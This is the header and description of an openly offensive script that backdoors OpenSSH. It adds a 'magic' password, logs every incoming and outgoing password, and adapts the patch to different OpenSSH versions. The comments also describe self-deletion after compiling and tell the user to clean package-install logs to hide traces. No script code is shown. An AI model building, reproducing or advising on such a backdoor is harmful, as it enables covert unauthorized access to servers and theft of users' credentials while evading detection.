satyr's openssh autobackdooring doohicky

This script provides OpenSSH backdoor functionality with a magic password and logs passwords as well. It leverages the same basic idea behind common OpenSSH patches but this script attempts to make the process version agnostic. Use at your own risk.

# ===
# satyr's openssh autobackdooring doohicky v0.-1
# ===
#      Run this script with no args and it'll prompt for the "Magic" password and location to log passwords to (incoming and outgoing).
#      If you give the location that passwords will be logged to as an arg, this script will try to automate almost everything
#      (Like common openssh compiling problems, such as missing pam, kerberos, zlib, openssl-devel, etc.
#      [it'll install them via apt or yum, whichever is available]).
#      Note: This script will delete itself once it's fairly sure the openssh compile went smoothly.
#      It's up to you to clean the logs of those yum/apt installs if they're needed, and to restart sshd.
# ===
# WTF:
#      I noticed that most openssh code doesn't change too much among versions, and that most openssh backdoors are
#      just diff patches for specific versions of openssh. So I thought it would be nice to have a script that applies
#      such a patch based on those similar chunks of code instead of relying on diff patches so that it can be done on different
#      versions without any modifying (I've seen kiddies apply backdoor patches for a version of openssh that wasn't
#      originally being used on the box, which is just lazy & dumb).#      So I wrote up this to makethe whole process a bit easier(For use in my own private network of course o.O)
#===